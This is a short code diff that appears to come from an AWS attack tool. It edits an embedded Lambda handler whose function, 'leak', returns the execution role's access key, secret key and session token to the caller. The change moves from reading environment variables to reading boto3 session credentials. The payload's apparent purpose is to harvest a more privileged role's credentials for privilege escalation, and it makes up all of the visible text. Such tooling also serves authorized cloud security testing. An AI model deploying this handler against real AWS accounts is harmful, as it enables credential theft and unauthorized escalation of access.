@@ -21,7 +21,6 @@ PATIENCE_SECONDS = 30
 LAMBDA, STATES = {"Service": "lambda.amazonaws.com"}, {"Service": "states.amazonaws.com"}
 
 HANDLER = """\
-import os
 import boto3
 from botocore.exceptions import ClientError
 
@@ -46,11 +45,8 @@ def client(event):
     )
 
 def leak(event, context):
-    return {
-        "AccessKeyId": os.environ["AWS_ACCESS_KEY_ID"],
-        "SecretAccessKey": os.environ["AWS_SECRET_ACCESS_KEY"],
-        "SessionToken": os.environ["AWS_SESSION_TOKEN"],
-    }
+    held = boto3.Session().get_credentials()
+    return {"AccessKeyId": held.access_key, "SecretAccessKey": held.secret_key, "SessionToken": held.token}
 """
 
 
